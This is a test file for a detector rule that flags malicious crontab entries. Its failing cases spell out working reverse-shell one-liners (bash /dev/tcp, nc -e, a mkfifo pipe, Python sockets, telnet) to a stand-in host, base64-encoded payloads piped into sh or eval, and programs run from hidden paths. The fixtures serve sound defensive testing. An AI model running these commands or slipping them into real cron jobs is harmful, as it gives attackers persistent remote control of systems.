import { suspiciousPayload } from '../../src/rules/suspicious-payload.js';
import { testRule } from '../helpers/rule-tester.js';

testRule(suspiciousPayload, {
  invalid: [
    { name: 'a decoder in a subshell element piped into sh', text: '*/5 * * * * root (echo Y3VybCBo | base64 -d) | sh\n', errors: [{ line: 1, message: /base64 -d \| sh/ }] },
    { text: '*/5 * * * * root echo Y3VybCBo | base64 -d | sh\n', errors: [{ line: 1, severity: 'critical', message: '`base64 -d | sh` runs a hidden, encoded program' }] },
    { text: '*/5 * * * * root echo Y3VybCBo | base64 --decode | bash -s\n', errors: [{ line: 1, message: /base64 -d \| bash/ }] },
    { text: '*/5 * * * * root eval "$(echo Y3VybCBo | base64 -d)"\n', errors: [{ line: 1, message: /`eval` runs the output of `base64 -d`/ }] },
    { text: '* * * * * root /bin/bash -c "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"\n', errors: [{ line: 1, message: /`\/dev\/tcp\/203.0.113.7\/4444` opens a network connection/ }] },
    { path: '/var/spool/cron/crontabs/www-data', text: '@reboot nc -e /bin/sh 203.0.113.7 4444\n', errors: [{ line: 1, message: /`nc -e` hands a program/ }] },
    { text: '* * * * * root rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f\n', errors: [{ line: 1, message: /`nc` piped with `sh` is a reverse shell/ }] },
    { text: "* * * * * root python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.7\",4444));os.dup2(s.fileno(),0)'\n", errors: [{ line: 1, message: /connects a socket to a shell/ }] },
    { text: '*/10 * * * * root /dev/shm/.x/kworker >/dev/null 2>&1\n', errors: [{ line: 1, message: /runs `\/dev\/shm\/.x\/kworker` from a world-writable directory/ }] },
    { text: '*/10 * * * * root nohup /bin/bash /var/tmp/update.sh &\n', errors: [{ line: 1, message: /`\/var\/tmp\/update.sh`/ }] },
    { text: '*/10 * * * * root /usr/lib/.cache/systemd-helper\n', errors: [{ line: 1, message: /hidden file `\/usr\/lib\/.cache\/systemd-helper`/ }] },
    { text: '*/10 * * * * root /usr/local/bin/.update\n', errors: [{ line: 1, message: /hidden file/ }] },
    { text: '* * * * * root telnet 203.0.113.7 80 | /bin/sh | telnet 203.0.113.7 81\n', errors: [{ line: 1, message: /`telnet` piped with `sh` is a reverse shell/ }] },
  ],
  valid: [
    { name: 'decoder and shell side by side in one group: not piped into each other', text: '*/5 * * * * root { base64 -d /srv/in > /srv/out; sh -s < /srv/run.sh; } 2>&1 | logger -t job\n' },
    { name: 'nc and sh side by side in one group', text: '*/5 * * * * root { nc -z db 5432; sh -s < /srv/check.sh; } | logger -t job\n' },
    { name: 'ordinary job', text: '0 2 * * * root /usr/local/bin/backup >/dev/null 2>&1\n' },
    { name: 'acme.sh in its dot-directory', text: '0 2 * * * root "/root/.acme.sh"/acme.sh --cron --home "/root/.acme.sh" > /dev/null\n' },
    { name: 'a tool in ~/.local/bin', path: '/var/spool/cron/crontabs/alice', text: '0 2 * * * /home/alice/.local/bin/sync-notes\n' },
    { name: 'decoding into a file', text: '0 2 * * * root base64 -d /etc/app/cert.b64 > /etc/app/cert.pem\n' },
    { name: 'base64 encoding into mail', text: '0 2 * * * root base64 /var/backups/db.gz | mail -s backup root\n' },
    { name: 'nc as a port check', text: '0 2 * * * root nc -z -w 5 db.internal 5432 || /usr/local/bin/alert\n' },
    { name: 'relative ./script', text: '0 2 * * * root cd /opt/app && ./run.sh\n' },
    { name: 'cleaning /tmp', text: '0 2 * * * root find /tmp -type f -mtime +7 -delete\n' },
    { name: 'a dot-file read as data', text: '0 2 * * * root cp /root/.my.cnf /var/backups/\n' },
  ],
});
